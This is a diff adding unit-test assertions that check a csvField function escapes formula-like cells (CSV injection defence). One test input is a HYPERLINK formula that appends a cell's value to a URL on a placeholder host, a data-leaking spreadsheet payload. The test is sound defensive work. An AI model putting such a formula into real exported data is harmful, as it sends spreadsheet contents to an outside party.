@@ -99,6 +99,10 @@ describe('extractRequirements', () => {
     );
     expect(csvField('a\nb')).toBe('"a\nb"');
     expect(csvField('plain')).toBe('plain');
+    // Formula-like cells from a document's text stay text in a spreadsheet.
+    expect(csvField('=HYPERLINK("http://x/?"&A1)')).toBe('"\'=HYPERLINK(""http://x/?""&A1)"');
+    expect(csvField('@SUM(A1)')).toBe("'@SUM(A1)");
+    expect(csvField('\t=1')).toBe("'\t=1");
   });
 });
 
